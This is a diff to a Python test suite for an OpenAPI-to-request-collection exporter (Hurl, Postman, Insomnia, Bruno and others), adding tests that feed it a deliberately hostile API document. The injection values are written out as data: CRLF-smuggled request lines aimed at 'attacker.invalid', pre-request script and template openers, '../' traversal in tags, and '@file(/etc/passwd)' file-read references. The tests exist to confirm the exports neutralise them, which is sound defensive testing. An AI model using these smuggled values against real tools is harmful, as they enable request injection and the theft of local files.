@@ -112,7 +112,7 @@ def test_insomnia() -> None:
     assert sorted(set(ids)) == sorted(ids)
     assert {each["parentId"] for each in resources} - {None} <= set(ids)
     requests = {each["url"].partition("}}")[2]: each for each in resources if each["_type"] == "request"}
-    assert "{% raw %}a {{b}}" in requests["/text"]["body"]["text"]
+    assert "a {% raw %}{{{% endraw %}b}} {% raw %}{%{% endraw %} c %}" in requests["/text"]["body"]["text"]
     kinds = {path: each["authentication"].get("type") for path, each in requests.items()}
     assert {"/json": "oauth2", "/form": "basic", "/parts": "bearer", "/text": None, "/q/7": "apikey"} == kinds
     assert {"name": "Idempotency-Key", "value": "{% uuid 'v4' %}"} in requests["/q/7"]["headers"]
@@ -163,3 +163,101 @@ def test_markdown_and_html_hold_no_html_of_the_document() -> None:
 def test_an_export_is_the_same_each_time(form: str) -> None:
     """Neither an id nor a key that is new for each request makes a difference."""
     assert _text_of(form) == _text_of(form)
+
+
+_EVIL = "GET http://attacker.invalid/x"
+_HOSTILE = f"}}\r\nscript:pre-request {{\n}}\n`\n```\nHTTP *\n{_EVIL}\n{{{{bearer}}}} {{%endraw%}}{{{{ x }}}}"
+"""What begins another request, a script or a template in one of the forms."""
+
+
+def _hostile_api() -> dict[str, Any]:
+    """Return a document that has such a text wherever it can have one."""
+
+    def sent(name: str, media_type: str, schema: Any, **more: Any) -> dict[str, Any]:
+        body = {"required": True, "content": {media_type: {"schema": schema, **more}}}
+        return {"post": operation(name) | {"requestBody": body}}
+
+    text = {"type": "string", "example": _HOSTILE}
+    fields = {"type": "object", "required": ["a", _HOSTILE], "properties": {"a": text, _HOSTILE: text}}
+    named = {"type": "object", "required": ["/etc/passwd", "text"], "properties": {}}
+    named["properties"] = {"text": {"type": "string", "example": "@file(/etc/passwd)"}}
+    named["properties"]["/etc/passwd"] = {"type": "string", "format": "binary"}
+    told = {"summary": _HOSTILE, "description": _HOSTILE, "tags": [f"../{_HOSTILE}"]}
+    line = " ".join(_HOSTILE.split())
+    paths = {
+        f"/path\nHTTP *\n{_EVIL}": {"get": operation("inPath")},
+        f"/{{id}}\r{_EVIL}": {"get": operation("inPathToo", parameter("z", {"not": {}}, required=True))},
+        "/literal {{bearer}}/{id}": {"get": operation("literal", parameter("id", _text("7"), "path"))},
+        "/told": {
+            "get": operation(
+                "told",
+                parameter(_HOSTILE, text, required=True),
+                parameter("X-A", {"type": "string", "example": line}, "header", required=True),
+            )
+            | told
+        },
+        "/lacking": {"get": operation("lacking", parameter(_HOSTILE, {"not": {}}, required=True)) | told},
+        "/json": sent("sendJson", JSON, {"type": "object"}, example={"a": _HOSTILE, _HOSTILE: 1}),
+        "/text": sent("sendText", "text/plain", {"type": "string"}, example=_HOSTILE),
+        "/form": sent("sendForm", "application/x-www-form-urlencoded", fields),
+        "/parts": sent("sendParts", "multipart/form-data", named),
+        "/type": sent("sendType", f"text/x\n{_EVIL}", {"type": "string"}, example="a"),
+    }
+    made = document(paths, ["https://api.example.com"])
+    made["info"] |= {"title": _HOSTILE, "version": _HOSTILE, "description": _HOSTILE}
+    made["servers"][0]["description"] = _HOSTILE
+    made["components"] = {"securitySchemes": {"bearer": BEARER}}
+    return made | {
+        "security": [{"bearer": []}],
+        "tags": [{"name": f"../{_HOSTILE}", "description": _HOSTILE}],
+    }
+
+
+def test_a_hostile_document_adds_nothing_to_a_form() -> None:
+    """No text of a document becomes a request, a script, a template or the name of a file; odd paths are left out."""
+    source = save(_hostile_api())
+    assert "`GET /path\\nHTTP *" in run_cli("operations", source).stderr
+    for form in ("hurl", "postman", "insomnia", "har", "markdown", "html"):
+        result = run_cli("export", source, "--to", form)
+        assert 0 == result.exit_code, result.stderr
+        Path(f"made-{form}").write_text(result.stdout, encoding="utf-8")
+        assert "inPath" not in result.stdout
+    hurl = Path("made-hurl").read_text("utf-8")
+    requests = re.findall(r"^[A-Z]+ .*$", hurl, re.MULTILINE)
+    assert all(line.startswith(("GET {{baseUrl}}/", "POST {{baseUrl}}/", "HTTP ")) for line in requests)
+    postman, insomnia = (
+        json.loads(Path(f"made-{form}").read_text("utf-8")) for form in ("postman", "insomnia")
+    )
+    sent = [
+        json.dumps(each["request"] | {"description": "", "auth": ""}) for each in _leaves(postman["item"])
+    ]
+    assert 8 == len(sent)
+    assert {"{{baseUrl}}"} == set(re.findall(r"\{\{.*?\}\}", "".join(sent)))
+    sent = [
+        json.dumps(each | {"description": "", "name": ""}) for each in insomnia["resources"] if "url" in each
+    ]
+    assert 8 == len(sent)
+    plain = "".join(sent).replace("{% raw %}{{{% endraw %}", "").replace("{% raw %}{%{% endraw %}", "")
+    assert {"{{ _.baseUrl }}", "{{ _.bearer }}"} == set(re.findall(r"\{[{%].*?[}%]\}", plain))
+    for text in ("".join(requests), hurl, *map(json.dumps, (postman, insomnia))):
+        assert not re.search(r'(file,|"(src|fileName)": ")[^";]*[/.]', text)
+
+
+def _leaves(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    return [leaf for item in items for leaf in (_leaves(item["item"]) if "item" in item else [item])]
+
+
+def test_a_hostile_document_adds_nothing_to_a_directory() -> None:
+    """In Bruno's language, each line of the document stands within the block that it belongs to, and names no file."""
+    assert 0 == run_cli("export", save(_hostile_api()), "--to", "bruno", "--out", "made").exit_code
+    files = {each: each.read_text(encoding="utf-8") for each in Path("made").rglob("*.bru")}
+    assert 10 <= len(files)
+    for file, text in files.items():
+        assert set(file.relative_to("made").as_posix()) <= set("abcdefghijklmnopqrstuvwxyz0123456789-./")
+        blocks = re.findall(r"^[a-z:-]+ [{\[]$(?:\n  .*)+\n[}\]]$", text, re.MULTILINE)
+        assert text.strip() == "\n\n".join(blocks)
+        outside = "".join(block for block in blocks if not block.startswith(("docs", "meta")))
+        assert {"{{baseUrl}}", "{{bearer}}"} >= set(re.findall(r"\{\{.*?\}\}", outside))
+        assert "{{bearer}}" not in re.sub(r"auth:bearer \{\n.*", "", outside)
+        assert "script:pre-request {" not in text.splitlines()
+        assert {"parts"} >= set(re.findall(r"@file\(([^)]*)\)", text)) - {"etc-passwd"}
